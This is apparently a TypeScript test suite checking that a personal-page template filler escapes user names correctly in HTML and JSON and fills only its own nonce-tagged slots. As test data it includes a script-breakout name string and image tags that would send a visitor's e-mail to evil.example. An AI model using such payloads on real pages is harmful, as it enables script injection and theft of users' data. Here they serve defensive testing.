/**
 * The personal-page filler (server/identity/personal-pages.ts): a role template's placeholders are filled
 * with HTML escaping in text and attributes, and with JSON-string escaping inside an island's props block,
 * so a name with quotes, `<`, `&`, `</script>` or U+2028 reads back exactly as it is, in the markup and
 * in the props the browser hydrates with.
 */
import t from 'tap';
import { build } from '../helpers/build.ts';
import { ADA, SESSION_SECRET, sealed } from './helpers.ts';
import { escapeJsonString, fill, slotNonce, split } from '../../server/identity/personal-pages.ts';
import { ANONYMOUS, type Visitor } from '../../views/view-model.ts';

const PAGE = '/acme-cloud/docs/first-steps';
const NASTY = 'Zoë "Q" <b>&amp; O\'Brien</script><!-- \u2028\u2029 end';

/** The props of the site-header island in a page, as the browser reads them. */
function headerProps(html: string): { account: { who: string; email?: string; label: string; initials: string; avatarUrl?: string } | null } {
  const block = /<script type="application\/json" data-island-props="site-header">(.*?)<\/script>/s.exec(html);
  if (!block) throw new Error('no site-header props block');
  return JSON.parse(block[1] as string);
}

const visitor = (fields: Partial<Visitor>): Visitor => ({ ...ANONYMOUS, signedIn: true, ...fields });

t.test('escapeJsonString: a JSON string body that cannot end a script block', async (t) => {
  const escaped = escapeJsonString(NASTY);
  t.notMatch(escaped, /<|\u2028|\u2029/, 'no <, U+2028 or U+2029 left raw');
  t.equal(JSON.parse(`"${escaped}"`), NASTY, 'reads back exactly');
});

t.test('split and fill: HTML escaping in markup, JSON escaping inside a JSON data block', async (t) => {
  const nonce = slotNonce();
  const slot = (field: string) => `\uE000${nonce}:${field}\uE001`;
  const template = `<p title="${slot('name')}">${slot('name')}</p>`
    + '<script type="module" src="/a.js"></script>'
    + `<script type="application/json" data-island-props="x">{"who":"${slot('name')}","mail":"${slot('email')}"}</script>`
    + `<span>${slot('email')}</span>`;
  const parts = split(template, nonce);
  t.same(parts.filter((_, i) => i % 2 === 1), ['name', 'name', 'json:name', 'json:email', 'email'], 'each placeholder knows where it is');
  const out = fill(parts, visitor({ displayName: NASTY, email: 'a&b@example.test' }));
  t.match(out, '<p title="Zoë &#34;Q&#34; &#60;b&#62;&#38;amp; O&#39;Brien&#60;/script&#62;&#60;!-- \u2028\u2029 end">');
  t.match(out, '<span>a&#38;b@example.test</span>');
  const json = /data-island-props="x">(.*?)<\/script>/s.exec(out)?.[1] ?? '';
  t.same(JSON.parse(json), { who: NASTY, mail: 'a&b@example.test' }, 'the props read back exactly');
  t.notMatch(json, /<|&#/, 'no HTML escaping and no raw < in the block');
  t.equal(out.split('</script>').length, 3, 'the name cannot close the block');
});

t.test('split: only the slots of this render, never a marker written by someone else', async (t) => {
  const nonce = slotNonce();
  const other = slotNonce();
  t.not(nonce, other, 'a nonce per render');
  const template = `<span>\uE000${nonce}:email\uE001</span>`
    + '<img src="https://evil.example/b.png?u=\uE000email\uE001">'
    + `<img src="https://evil.example/c.png?u=\uE000${other}:email\uE001">`
    + `<img src="https://evil.example/d.png?u=\uE000${nonce.slice(1)}:email\uE001">`;
  const out = fill(split(template, nonce), visitor({ email: 'ada@customer.example' }));
  t.equal(out.split('ada@customer.example').length - 1, 1, 'the e-mail once: in the slot of this render');
  t.match(out, '<span>ada@customer.example</span>');
  t.match(out, 'b.png?u=\uE000email\uE001', 'the bare marker stays as written');
  t.match(out, `c.png?u=\uE000${other}:email\uE001`, "another render's slot stays as written");
});

t.test('a signed-in page: the same name in the markup and, exactly, in the header island props', async (t) => {
  const app = await build(t, { env: { SESSION_SECRET } });
  const user = { ...ADA, sub: 'acct-zoe', name: NASTY, email: 'zoe+"x"@customer.example', picture: 'https://avatars.example/z.png?a=1&b="<2>"' };
  // Twice: the first is rendered as the role template, the second filled from the kept template.
  for (const round of ['rendered', 'from the template']) {
    const res = await app.inject({ url: PAGE, headers: { cookie: sealed(app, user) } });
    t.equal(res.statusCode, 200, round);
    const account = headerProps(res.body).account;
    t.equal(account?.who, NASTY, `${round}: the name reads back exactly from the props`);
    t.equal(account?.email, user.email, `${round}: the e-mail too`);
    t.equal(account?.avatarUrl, user.picture, `${round}: and the picture`);
    t.equal(account?.label, `Account menu for ${NASTY}`, `${round}: and the trigger's name`);
    t.equal(account?.initials, 'Z"', `${round}: initials (a quote among them)`);
    t.match(res.body, '<span class="account-name">Zoë &#34;Q&#34; &#60;b&#62;&#38;amp; O&#39;Brien&#60;/script&#62;', `${round}: HTML-escaped in the markup`);
    t.notMatch(res.body, /\uE000|\uE001/, `${round}: no placeholder left`);
    t.equal(res.body.match(/<\/script>/g)?.length, res.body.match(/<script[\s>]/g)?.length, `${round}: every script element closes where it should`);
  }
});
